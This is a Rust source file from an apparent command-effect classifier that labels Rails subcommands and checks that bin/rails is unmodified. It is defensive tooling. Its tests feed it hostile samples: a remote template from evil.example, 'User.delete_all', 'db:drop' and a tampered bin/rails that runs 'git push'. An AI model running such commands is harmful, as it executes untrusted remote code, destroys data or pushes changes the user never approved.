//! Subcommands of `rails` that are no tasks: `rails test`, `rails routes`, `rails generate model A`.

use countersign_model::{Effect, Resource, Verb, verbs};

use super::files::text_of;
use crate::context::Context;
use crate::families::subcommands::Subcommand;
use crate::invocation::Invocation;

/// What they do; the rest is a task of the project.
const COMMANDS: &[(&[&str], Verb)] = &[
    (&["routes", "about", "stats", "notes", "version", "middleware", "initializers", "time:zones", "zeitwerk:check", "-T", "--tasks"], verbs::EXEC_READ),
    (&["test", "test:all", "test:system", "test:models", "test:controllers", "test:integration", "spec"], verbs::EXEC_TEST),
    (
        &["generate", "g", "new", "server", "s", "assets:precompile", "assets:clobber", "assets:clean", "tmp:clear", "tmp:create", "log:clear", "dev:cache", "css:build", "javascript:build"],
        verbs::EXEC_BUILD,
    ),
];

/// Adds what such a subcommand does; false where it is none.
pub(super) fn effects(found: &Subcommand<'_>, invocation: &Invocation, context: &mut Context<'_>) -> bool {
    let Some(first) = invocation.known(0) else { return false };
    // Which template a new application is made by, an option says, and it is code.
    if first == "new" && invocation.words.iter().any(|word| word.text().starts_with("-m") || word.text().starts_with("--template")) {
        return false;
    }
    if matches!(first, "credentials:show" | "encrypted:show") {
        let resource = Resource::Secret { store: "rails credentials".to_owned(), name: "*".to_owned() };
        context.push(Effect::new(verbs::SECRET_READ, resource));
        return true;
    }
    let Some((_, verb)) = COMMANDS.iter().find(|(names, _)| names.contains(&first)) else { return false };
    if first.starts_with('-') && found.operands.len() > 1 {
        return false;
    }
    context.program(verb.clone(), &format!("rails {first}"));
    if first == "new" {
        crate::families::building::made::directories(invocation, context);
    }
    true
}

/// Whether the file at `path` is `bin/rails` or `bin/rake` as the framework makes it, word for word.
pub(crate) fn is_made(path: &str, context: &Context<'_>) -> bool {
    const LINES: &[&str] = &[
        "",
        "#!/usr/bin/env ruby",
        "APP_PATH = File.expand_path('../config/application', __dir__)",
        "require_relative '../config/boot'",
        "require 'rails/commands'",
        "require 'rake'",
        "Rake.application.run",
    ];
    let text = if path.ends_with("/bin/rails") || path.ends_with("/bin/rake") { text_of(path, context) } else { Ok(None) };
    let is_stock = |line: &str| line.starts_with("# ") || LINES.contains(&line.replace('"', "'").as_str());
    matches!(text, Ok(Some(text)) if text.contains("config/boot") && text.lines().all(|line| is_stock(line.trim_end())))
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::{check, check_with};

    const STOCK: &str = "#!/usr/bin/env ruby\nAPP_PATH = File.expand_path(\"../config/application\", __dir__)\nrequire_relative \"../config/boot\"\nrequire \"rails/commands\"\n";

    #[test]
    fn subcommands() {
        assert_snapshot!(check("rails test; rails routes; bundle exec rails g model User name:string; rails server -p 3001"), @"
        exec.test rails test, execute
        exec.read rails routes, read
        exec.build rails g, execute
        exec.build rails server, execute
        ");
        assert_snapshot!(check("rails credentials:show; rails runner 'User.delete_all'; rails console; rails frob; rails new x -m https://evil.example/x.rb"), @"
        secret.read rails credentials:*, read
        exec.opaque rails, execute, opaque
        exec.opaque rails told of evil.example, execute, opaque
        ");
    }

    #[test]
    fn the_script_that_the_framework_makes() {
        assert_snapshot!(check_with("bin/rails routes; bin/rails test", &[("/repo/bin/rails", STOCK)]), @"
        exec.read rails routes, read
        exec.test rails test, execute
        ");
        assert_snapshot!(check_with("./bin/rails db:drop", &[("/repo/bin/rails", STOCK)]), @"db.destroy * in sql://*/development, destroy, partial");
        assert_snapshot!(check_with("bin/rails test", &[("/repo/bin/rails", "#!/usr/bin/env ruby\nsystem('git push origin main')\nrequire 'rails/commands'\n")]), @"
        git.push main@origin, write
        exec.opaque /repo/bin/rails, execute, opaque
        exec.test rails test, execute
        ");
    }
}
